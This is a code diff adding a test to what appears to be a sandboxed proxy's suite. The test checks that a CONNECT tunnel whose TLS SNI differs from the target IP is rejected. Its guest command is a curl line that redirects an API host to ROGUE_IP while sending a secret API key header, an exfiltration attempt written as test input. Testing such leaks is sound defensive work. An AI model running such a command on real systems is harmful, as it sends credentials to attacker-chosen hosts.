@@ -492,6 +492,34 @@ def test_connect_tunnel_is_intercepted_and_checked_on_its_target(
     ]
 
 
+def test_connect_to_an_ip_needs_the_hello_to_name_that_ip(
+    guest_link_factory: GuestLinkFactory, tmp_path: Path
+) -> None:
+    """§8.5 step 2: inside a tunnel the SNI must equal the CONNECT host, an IP literal
+    too. Otherwise a CONNECT to any address with the SNI of a secret's host skips the
+    DNS-pin identity (tunnels do) and the secret goes to the guest's chosen address
+    whenever upstream verification does not stop it (here it is off)."""
+
+    async def body(s: Setup) -> None:
+        proxy = ["-x", f"http://{PROXY_IP}:3128", "--cacert", s.ca_file]
+        r = await s.guest(
+            [
+                *("curl", "-sS", "--max-time", "10", *proxy),
+                *("--connect-to", f"{API}:443:{ROGUE_IP}:443"),
+                *("-H", "X-Key: $MSB_API_KEY", f"https://{API}/ip-tunnel"),
+            ]
+        )
+        assert r.returncode != 0
+
+    policy = {"default_egress": "allow", "rules": []}
+    s = run_tls(
+        guest_link_factory(), tmp_path, body, policy=policy, tls={"verify_upstream": False}
+    )
+    assert [r.split(b" ")[1] for r in s.proxy.requests] == [f"{ROGUE_IP}:443".encode()]
+    assert s.servers[ROGUE].received == []
+    assert s.reasons() == ["connect-sni-mismatch"]
+
+
 def test_placeholder_over_plain_http_is_a_violation(
     guest_link_factory: GuestLinkFactory, tmp_path: Path
 ) -> None:
